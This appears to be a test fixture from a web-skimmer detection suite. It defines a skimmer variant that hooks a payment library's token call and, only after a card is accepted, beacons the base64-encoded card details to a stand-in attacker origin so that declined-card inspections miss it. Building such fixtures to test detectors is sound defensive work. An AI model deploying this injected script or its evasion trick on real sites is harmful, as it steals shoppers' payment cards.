import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'only-after-success',
  why: 'Waits until the provider has taken the card, so that only good cards are sent; an inspection whose payment is declined never sees it strike.',
  covers: ['evade: detectors', 'reading: card test'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var real = WakabaPay.createToken;
  WakabaPay.createToken = function (card) {
    return real.call(this, card).then(function (token) {
      new Image().src = '${site.origins.evil}/ok.gif?d=' + encodeURIComponent(btoa(JSON.stringify(card)));
      return token;
    });
  };
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
